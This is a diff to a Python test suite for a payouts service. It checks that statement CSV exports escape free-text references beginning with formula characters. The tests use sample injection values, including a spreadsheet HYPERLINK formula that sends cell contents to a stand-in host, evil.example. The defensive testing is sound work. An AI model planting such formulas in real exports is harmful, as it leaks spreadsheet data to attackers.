@@ -178,6 +178,11 @@ class Withdrawals(PayoutCase):
         problem(self.move("withdrawals", adv["id"], 1), 402, "insufficient_funds")
 
 
+def csv_text(s):
+    """A free-text CSV cell as leadx writes it: a leading ' before what a spreadsheet would run as a formula."""
+    return "'" + s if s[:1] in ("=", "+", "-", "@", "\t", "\r") and s else s
+
+
 class Statements(PayoutCase):
     def check_csv(self, text, doc):
         rows = list(csv.reader(io.StringIO(text, newline="")))
@@ -187,7 +192,7 @@ class Statements(PayoutCase):
         for row, line in zip(rows[1:], doc["lines"]):
             self.assertEqual(row, [line["issued_at"], line["receipt_id"], line["kind"], line["book"], str(line["amount"]),
                                    line["currency"], line["lead_id"] or "", line["sale_id"] or "", line["ledger_txn"],
-                                   line["reference"] or ""])
+                                   csv_text(line["reference"] or "")])
         return rows
 
     def test_webmaster_statement_closes_on_the_balance(self):
@@ -236,14 +241,22 @@ class Statements(PayoutCase):
         adv, adv_token = self.advertiser(funds=10 ** 6)
         self.bought(self.new_lead(niche=self.slug)["id"], "exclusive", adv_token)
         self.assertEqual(self.move("withdrawals", adv["id"], 1000).status_code, 201)
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+        for ref in (formula, "-1+1", "@SUM(A1)", "+7 wire"):
+            self.assertEqual(self.move("withdrawals", adv["id"], 1, reference=ref).status_code, 201)
         bal = self.balance(adv["id"]).json()["balance"]
         doc = self.statement(adv["id"], token=adv_token).json()
         self.assertEqual(doc["closing"], {"balance": bal, "pending": None, "available": None})
         self.assertEqual(doc["totals"]["deposit"], {"count": 1, "amount": 10 ** 6})
-        self.assertEqual(doc["totals"]["withdrawal"], {"count": 1, "amount": -1000})
+        self.assertEqual(doc["totals"]["withdrawal"], {"count": 5, "amount": -1004})
         self.assertEqual(doc["totals"]["sale"]["count"], 1)
+        self.assertIn(formula, [l["reference"] for l in doc["lines"]])  # JSON keeps the reference as it is
         r = self.statement(adv["id"], token=adv_token, format="csv")
         self.check_csv(r.text, doc)
+        # a spreadsheet sees text, never a formula: the cell starts with '
+        self.assertIn('"\'=HYPERLINK(""http://evil.example/?""&A1,""refund"")"', r.text)
+        self.assertIn('"\'-1+1"', r.text)
+        self.assertNotIn(",=", r.text)
         # The future is empty; an empty CSV is its header.
         r = self.statement(adv["id"], **{"from": now_rfc3339(3600), "to": now_rfc3339(7200)})
         self.assertEqual((r.json()["lines"], r.json()["opening"], r.json()["closing"]),
